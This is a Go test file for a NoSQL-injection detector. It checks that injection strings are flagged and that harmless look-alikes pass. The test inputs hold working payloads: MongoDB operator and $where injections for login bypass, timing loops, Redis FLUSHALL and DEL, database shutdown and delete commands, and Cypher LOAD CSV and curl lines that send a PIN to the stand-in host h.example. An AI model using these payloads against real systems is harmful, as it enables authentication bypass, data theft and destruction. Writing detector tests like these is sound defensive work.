package nosqli

import (
	"strings"
	"testing"

	"github.com/weirnode/weir/detect/detecttest"
	"github.com/weirnode/weir/detect/evidence"
	"github.com/weirnode/weir/point"
)

var detector = detecttest.Detector{Gate: Gate, Scan: Scan, Signs: Signs}

// TestSigns gives each sign a value that holds it and one that only looks like it.
func TestSigns(t *testing.T) {
	f := detector.CheckSigns(t, &emptyCondition, &rootExpression, &graphPattern) // TestConditions, TestSparql
	f(&codeOperator, point.Key, "a[$where]", "a[$whereabouts]")
	f(&compareKey, point.Key, "age[$gt]", "age[$limit]")
	f(&credential, point.Key, "password[$ne]", "price[$ne]")
	f(&operatorValue, point.Text, `{"$ne":null}`, `{"$set":{"a":1}}`)
	f(&operatorInject, point.Text, `', $or: [ {}, { 'a':'a`, `costs $5, $or: so`)
	f(&scriptLogic, point.Text, `' || 'a'=='a`, `' || a == b`)
	f(&scriptReturn, point.Text, "0;return true", "please return the key")
	f(&scriptThis, point.Text, `' && this.password.match(/.*/)//`, `this.password`)
	f(&busyLoop, point.Text, `';sleep(5000);`, "let it sleep(5)")
	f(&busyLoop, point.Text, `7'+(function(){if(typeof k=="undefined"){var a=new Date();do{var b=new Date();}while(b-a<9000);k=1;}}())+'`, `(function(){ var a = new Date(); show(a); })()`)
	f(&busyLoop, point.Key, `(function(){var a=new Date();do{b=new Date();}while(b-a<9000);k=1;})()`, `a[function(){}]=1;`)
	f(&busyLoop, point.UserAgent, `Mozilla/5.0' (function(){var a=new Date();do{b=new Date();}while(b-a<9000);}())`, `Mozilla/5.0 (X11; Linux) {a=b}`)
	f(&shellCall, point.Text, "1;db.users.find({})", "db.users and db.files")
	f(&wireCommand, point.Text, "x\r\nFLUSHALL\r\n", "get milk\nset of knives")
	f(&foreignStage, point.JSONKey, "$unionWith", "$union")
	f(&documentBreak, point.Text, `"}},{"match_none":{}}],"y":[{"b":"`, `"a": {"b": 1}, "c": {"d": 2}`)
	f(&operatorInject, point.Text, `x', token: {$gt: ''}, z: '`, `x', token: {gt: ''}, z: '`)
	f(&operatorValue, point.Text, `{"$or":[{},{"k":1}]}`, `{"$or":[{"k":1},{"l":1}]}`)
	f(&compareKey, point.Text, "k[$ne]=7&l=8", "k[$limit]=7&l=8")
	f(&credential, point.Text, "login[$in][]=k&pw[$gt]=", "price[$gt]=1&qty[$gt]=2")
	f(&graphQuery, point.Text, "MATCH (k:L) WHERE k.m='n' OR 7=7 RETURN k //", "MATCH (k:L) RETURN k")
	f(&conditionCall, point.Text, "k) OR attribute_not_exists(l) OR (m = :n", "k OR attribute_not_exists(l)")
	f(&conditionCall, point.Text, "k*) OR _exists_:l OR (m:n", "_exists_:l AND m:n")
	f(&shellCall, point.Text, `k"); redis.call("del","k"); return("`, `redis.call("del","k")`)
	f(&scriptThis, point.Text, "function(d){emit(d.k,d.l)}", "function(d){return d.k}")
	f(&busyLoop, point.Text, "while(true){} return 1", "while(true) we wait")
	f(&endedString, point.Text, "kl'\x00", "k'l\x00")
	f(&wireCommand, point.Text, "k 0 9 1\r\nk\r\nflush_all\r\n", "k is 9\r\nflush_all of it")
	f(&searchAll, point.Text, "kind:a OR *:*", "kind:a OR *b")
	f(&searchAll, point.Text, "' OR token(k) > 0 ALLOW FILTERING", "they allow filtering (and sorting)")
	f(&graphQuery, point.Text, `' RETURN 1 UNION MATCH (u) DETACH DELETE u //`, `' match (it)`)
}

// TestOwners reads operators below names, as forms and JSON documents have them.
func TestOwners(t *testing.T) {
	f := func(want int, names ...string) {
		t.Helper()
		var tree point.Tree
		ref := tree.Add(tree.Add(0, point.Post), point.JSONDoc)
		for _, n := range names {
			ref = tree.AddName(ref, point.Hash, []byte(n))
		}
		name := []byte(names[len(names)-1])
		var best evidence.Tally
		Scan(&point.Value{Data: name, Kind: point.JSONKey, Ref: ref, Classes: point.Classify(name)}, &tree, &best)
		if best.Score() != want {
			t.Errorf("%q scores %d, want %d", names, best.Score(), want)
		}
	}
	f(8, "password", "$ne")
	f(8, "login", "username", "$gt")
	f(6, "price", "$gt")
	f(4, "filter", "price", "$gt")
	f(6, "filters", "username", "$ne")
	f(8, "where", "password", "$ne")
	f(8, "$or", "1", "_id", "$gt")
	f(8, "code", "$type")
	f(4, "shape", "$type")
	f(9, "user", "$func")
	f(0, "$lookup")
	f(4, "username", "$eq")
	f(0, "order", "$ref")
	f(9, "order", "$where")
	f(8, "passphrase", "$not")
	f(8, "userPass", "$exists")
	f(6, "compass", "$ne")
}

// TestJoinedSecrets reads names of forms that join conditions on what a login is proved with.
func TestJoinedSecrets(t *testing.T) {
	for name, want := range map[string]int{"$nor[0][token]": 14, "$or[1][password]": 12, "$or[1][city]": 4, "$or": 4} {
		if got := detector.Read(name, point.Key); got.Score() != want {
			t.Errorf("%s scores %d, want %d", name, got.Score(), want)
		}
	}
}

// TestWhereScripts tells scripts from conditions of open data.
func TestWhereScripts(t *testing.T) {
	for text, want := range map[string]int{"function(){return 1}": 9, "return true;": 9, "this.a == this.b": 9, "age > 21 AND city = 'k'": 0} {
		if got := detector.ReadNamed(point.Get, "$where", text, point.Text); got.Score() != want {
			t.Errorf("%s scores %d, want %d", text, got.Score(), want)
		}
	}
}

// TestWorstCasesEnd feeds inputs that could make a scan quadratic.
func TestWorstCasesEnd(*testing.T) {
	detector.ReadRepeated(point.Text, "$", "'", "' || ", "$gt:", "\n", "; ", "db.a", "{\"$ne\":")
}

func FuzzScan(f *testing.F) {
	detector.Fuzz(f, point.Text, "a[$ne]", `{"$gt":""}`, "' || 'a'=='a", "x\r\nFLUSHALL\r\n", "db.a.find(")
}

// TestQuestions checks that queries that somebody asks about are no attacks.
func TestQuestions(t *testing.T) {
	for _, text := range []string{
		`Is db.k.find({ $where: "this.a == this.b" }) slower than $expr?`, `db.orders.aggregate([{ $match: { state: "A", n: { $gt: 5 } } }])`,
	} {
		if got := detector.Read(text, point.Text); got.Score() >= evidence.Threshold {
			t.Errorf("%q scores %d", text, got.Score())
		}
	}
	for _, text := range []string{`db.k.insert({ok:1})`, `1';db.k.find({})//`, `a', $where: 'this.k`} {
		if got := detector.Read(text, point.Text); got.Score() < evidence.Threshold {
			t.Errorf("%q scores %d", text, got.Score())
		}
	}
}

// TestConditions reads conditions of a query that is the whole document, or below a name.
func TestConditions(t *testing.T) {
	f := func(want int, elements []bool, names ...string) {
		t.Helper()
		var tree point.Tree
		ref := tree.Add(tree.Add(0, point.Post), point.JSONDoc)
		for _, n := range names {
			ref = tree.AddName(ref, point.Hash, []byte(n))
		}
		for i, full := range elements {
			if e := tree.AddIndex(ref, point.Array, i); full {
				tree.AddName(e, point.Hash, []byte("k"))
			}
		}
		name := []byte(names[len(names)-1])
		var best evidence.Tally
		Scan(&point.Value{Data: name, Kind: point.JSONKey, Ref: ref, Classes: point.Classify(name)}, &tree, &best)
		if best.Score() != want {
			t.Errorf("%q %v scores %d, want %d", names, elements, best.Score(), want)
		}
	}
	f(8, []bool{false, true}, "$or")
	f(8, []bool{true, false}, "params", "$or")
	f(4, []bool{true, true}, "$or")
	f(4, []bool{false, false}, "$or")
	f(4, []bool{false, true}, "filter", "$or")
	f(4, []bool{false, true}, "$and")
	f(8, nil, "$expr")
	f(6, nil, "k", "$expr")
}

// TestLookups checks operators without a sign on what is proved with.
func TestLookups(t *testing.T) {
	lookups := detecttest.Detector{Gate: GateLookup, Scan: ScanLookup}
	f := func(kind point.Kind, attack bool, names ...string) {
		t.Helper()
		best := lookups.ReadName(point.JSONDoc, kind, names...)
		if best.Score() >= evidence.Threshold != attack {
			t.Errorf("%q scores %d", names, best.Score())
		}
	}
	f(point.JSONKey, true, "password", "not")
	f(point.JSONKey, true, "where", "password", "startsWith")
	f(point.JSONKey, true, "resetToken", "ne")
	f(point.Key, true, "password[contains]")
	f(point.Key, true, "user__password__regex")
	f(point.JSONKey, true, "where", "or", "password", "contains")
	f(point.JSONKey, false, "tokens", "in")
	f(point.JSONKey, false, "i18n", "password", "not")
	f(point.JSONKey, false, "password", "regex")
	f(point.JSONKey, false, "where", "name", "contains")
	f(point.Key, false, "name__contains")
	f(point.Key, false, "user[password]")
	f(point.Key, false, "password[first]")
}

// TestDocuments holds conditions in documents of GraphQL to what must come of them.
func TestDocuments(t *testing.T) {
	f := func(text string, attack bool) {
		t.Helper()
		if got := detector.Read(text, point.GQLDocument); got.Score() >= evidence.Threshold != attack {
			t.Errorf("%q scores %d", text, got.Score())
		}
	}
	f(`{users(where:{password:{_like:"a%"}}){id}}`, true)
	f(`{users(filter: { password_hash : { startsWith: "a" } }){id}}`, true)
	f(`{users(where:{password:{_eq:$p}}){id}}`, false)
	f(`{devices(where:{token:{_is_null:false}}){id}}`, false)
	f(`mutation{login(password:"k{not:1}"){id}}`, false)
	f(`{users(where:{passwordChangedAt:{_gt:"k"}}){id}}`, false)
}

// TestQueryLanguages holds graph queries, commands and parsers to what must come of them.
func TestQueryLanguages(t *testing.T) {
	f := func(text string, attack bool) {
		t.Helper()
		if got := detector.Read(text, point.Text); got.Score() >= evidence.Threshold != attack {
			t.Errorf("%q scores %d: %+v", text, got.Score(), got.Marks[:got.N])
		}
	}
	f(`k' LOAD CSV FROM 'http://h.example/'+n.pin AS l RETURN l //`, true)
	f(`k' OPTIONAL MATCH (n) RETURN n //`, true)
	f(`k' OR n.boss=true RETURN n //`, true)
	f(`k' UNION CALL db.labels() YIELD label RETURN label //`, true)
	f(`k" INSERT {a:1} INTO clerks //`, true)
	f(`let's SET it // up`, false)
	// Expressions that are put into a string, and statements that are cut off.
	f(`' || typeof 1=='number' || '`, true)
	f(`k' && Object.keys(this)[0].match('^p')=='`, true)
	f(`' || new Date()>0 || '`, true)
	f(`' || 2>1 //`, true)
	f(`';run('id');//`, true)
	f(`k';document.onclick=go//`, true)
	f(`k';with(window)go(1)//`, true)
	f(`k';a.b(1);'`, true)
	f(`k').drop().iterate();//`, true)
	f(`k) OR (*:*`, true)
	f(`k'; // remark`, false)
	f(`http://h.example/it's;x//`, false)
	f(`that's all;// done`, false)
	f(`the boss'; go home //`, false)
	f("k\r\nSET up_table\r\n", false)
	f(`'}).sort({_id:-1});return 1;({a:'`, true)
	f(`'+(function(){if(this.a)sleep(5000)})()+'`, true)
	f(`"}); db.adminCommand({shutdown:1}); //`, true)
	f(`this.password=='k'`, true)
	f(`'a' || x || 'b'`, false)
	f(`it's || that's`, false)
	f(`what is db.eval(?)`, false)
	f(`k'; return db.l.find(); var m='`, true)
	f(`const a = b || 'c';`, false)
	f(`that's it; this.is // fun`, false)
	f(`' || (() => { const a=Date.now(); while(Date.now()-a<3000){} })() || '`, true)
	f(`(() => { const a = Date.now(); show(a); })()`, false)
	f(`' || hex_md5('1')=='c4ca`, true)
	f(`' || tojson('k') + 'l`, true)
	f(`k' || 'a'.match(/./) || '`, true)
	f(`k' || 'a'.b || '`, true)
	f(`k' || this==this //l`, true)
	f(`k'+''||1||'`, true)
	f(strings.Repeat("$ ", 99)+`', $where: '1`, true)
	f(`k'<'l'||'m'||'`, true)
	f(strings.Repeat("k", 99)+`'||1||/*`+strings.Repeat("l", 300)+`*/'`, true)
	f(`' + (name || 'none') + '`, false)
	f(`'.join(a || b) + '`, false)
	f(`k";while(Date.now()-l<50);"`, true)
	f(`k' || l // the mm`, false)
	f(`k","role":true,"l":"`, true)
	f("k\" ,\n\"role\" : 1 , \"\" : \"", true)
	f(`k","l":"m"`, false)
	f(`"k","l","m"`, false)
	f(`5", 7", and "k": the "l"`, false)
	f(`he said "k", "l": "m" and "n`, false)
	f(`k' ||[1].includes(1)?1:'`, true)
	f(`"/*l*/||!NaN//`, true)
	f(`k"|1//`, true)
	f(`',1 //`, true)
	f(`'.concat(1)||this.a||'`, true)
	f(`';/**/return+1//`, true)
	f(`k";return Array.isArray([]);var l="`, true)
	f(`0;return ({}=={}||1)?1:0`, true)
	f(`0||"a"in{a:1}//`, true)
	f(`1 /*k*/||!null`, true)
	f(`k' && 0 || typeof 1 || '`, true)
	f(`the boss' || who is it //`, false)
	f(`k' || the one that was here //`, false)
	f(`the 80's || the 90's`, false)
	f(`12 || 14`, false)
	f(`0; return to the start //`, false)
	f(`5",12 // mm`, false)
	f(`'s, see http://`, false)
	f(`k'; return to sender '`, false)
	f(`a = b || 'k'; // or l`, false)
	f(`"k"||"l"||"m"`, false)
	f(`k's | l's //`, false)
	f(`1,5 // 2`, false)
	f(`3-4//`, false)
	f(`user's.name || user's.mail || '`, false)
	f(`k' or meta(k).id like 'l`, true)
	f(`the boss' or meta (k)`, false)
	f("My code: var d=new Date(); while(new Date()-d<1000){} hangs", false)
	f("```js\ndb.users.find({a:1})\n```\nwhat does it do?", false)
	f(`j:{"name":{"$regex":"^a"}}`, true)
	f(`j:{"name":{"first":"a"}}`, false)
	f(`Bearer {"$gt":""}`, true)
	f(`Bearer {"a":"$gt"}`, false)
	f(`k' union select curl("http://h.example/",{"a":1}) --`, true)
	f(`doc['password.keyword'].value.startsWith('a')`, true)
	f(`doc['price'].value * 2`, false)
	// Lines of Redis.
	f("k\r\nDEL session:1\r\n", true)
	f("k\r\nSET boss true\r\n", true)
	f("k\r\nKEYS *\r\n", true)
	f("SET list\r\nGET milk\r\n", false)
	f("Hello\nset the table for 5 at 6 0 7", false)
	// Searches, documents, conditions.
	f(`*) OR *:*`, true)
	f(`name:* OR password:*`, true)
	f(`k"}},{"match_all":{}}]}}`, true)
	f(`j:{"$ne":null}`, true)
	f(`k","role":"boss`, true)
	f(`a","b`, false)
	f(`k' OR ANY v IN clerks SATISFIES v.pin LIKE '%' END --`, true)
	f(`' OR attribute_exists(pin)`, true)
	f(`1""],""send_image"":0}`, false)
	f(`name:bob OR name:alice`, false)
	f(`k"})-[]-(m) RETURN m //`, true)
	f(`k' SET n.boss=true //`, true)
	f(`k'; for u in clerks return u //`, true)
	f(`it's time to load csv files from 'http://h.example/' // thanks`, false)
	f(`'abc' for x in list return y // done`, false)
	f(`EVAL "return redis.call('keys','*')" 0`, true)
	f(`EVAL "return 1" in Redis explained`, false)
	f("*2\r\n$3\r\nGET\r\n$1\r\nk\r\n", true)
	f("*1\n*2\n$5 off", false)
	f("*3\n$7 a piece\n", false)
	f(`k').drop().iterate();g.V('`, true)
	f(`g.V().hasLabel('k').valueMap()`, false)
	f(`_query_:"{!join from=a to=b}k"`, true)
	f(`{!x} {!join us} today`, false)
}

// TestFlood: quotes of the other kind, escaped ones and signs of a program do not hide the quote that leaves the
// application's string.
func TestFlood(t *testing.T) {
	for _, before := range []string{`""""""`, `"k" "l" "m" `, `\'\'\'\'\'`, "k;l ", "f(k) "} {
		if got := detector.Read(before+"' || this.k != 'l", point.Text); got.Score() < 8 {
			t.Errorf("%q scores %d", before, got.Score())
		}
	}
}
